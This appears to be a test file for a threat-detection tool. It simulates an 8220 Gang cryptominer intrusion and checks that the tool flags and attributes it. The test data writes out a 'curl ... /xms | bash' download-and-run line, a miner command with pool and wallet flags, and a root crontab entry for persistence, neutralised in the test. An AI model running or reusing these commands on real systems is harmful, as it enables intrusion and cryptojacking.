import { afterAll, describe, expect, it } from 'vitest';
import { expectStages, Scenario, WALLET } from './harness.js';

/**
 * 8220 Gang: in through a WebLogic (Java) server that runs `curl .../xms | bash`; the loader starts the sysupdate
 * miner as its child, with the sysguard watchdog in cron.
 */
describe('scenario: 8220', () => {
  const s = new Scenario('8220', '127.0.0.14');
  afterAll(() => s.close());

  it('is one incident from the Java server down to the miner, entry through the Java app, attributed to 8220', async () => {
    await s.pool(3333);
    const java = s.binary('u01/oracle/jdk/bin/java');
    const miner = s.binary('.x/sysupdate');
    s.plant('var/spool/cron/crontabs/root', `*/30 * * * * ${s.work}/.x/sysguard\n@reboot ${miner}\n`, 0o600);
    // `:` makes the pipeline a no-op: the command line says curl | bash, nothing is fetched or run.
    const child =
      `: curl -fsSL http://${s.ip}:8080/xms | bash; ` +
      `MWS_BURN=1 MWS_POOL=${s.ip}:3333 ${miner} -o ${s.ip}:3333 -u ${WALLET} -p x --donate-level 1; :`;
    const j = await s.start(java, ['java', '-Dweblogic.Name=AdminServer', 'weblogic.Server'], {
      MWS_CHILD: child,
    });
    await s.connected(1);
    const out = await s.scan();

    const minerFinding = out.findings.find((f) => f.ruleId === 'miner.cmdline' && f.entity.exe === miner);
    expect(minerFinding).toBeDefined();
    const { incident, findings } = s.incidentOf(out, 'miner.cmdline', minerFinding!.entity.pid!);
    const rules = findings.map((f) => f.ruleId);
    expect(rules).toEqual(expect.arrayContaining(['initial.java-shell-download', 'net.miner-port']));
    expect(findings.some((f) => f.entity.pid === j.pid)).toBe(true);
    expectStages(incident, ['initial-access', 'execution', 'impact']);
    expect(incident.entryPoint).toMatch(/^Java server started a download-and-run command/);
    expect(incident.attribution[0]?.group).toBe('8220');
    expect(incident.attribution[0]?.indicators).toEqual(
      expect.arrayContaining(['miner named sysupdate', 'xms loader script']),
    );
  });
});
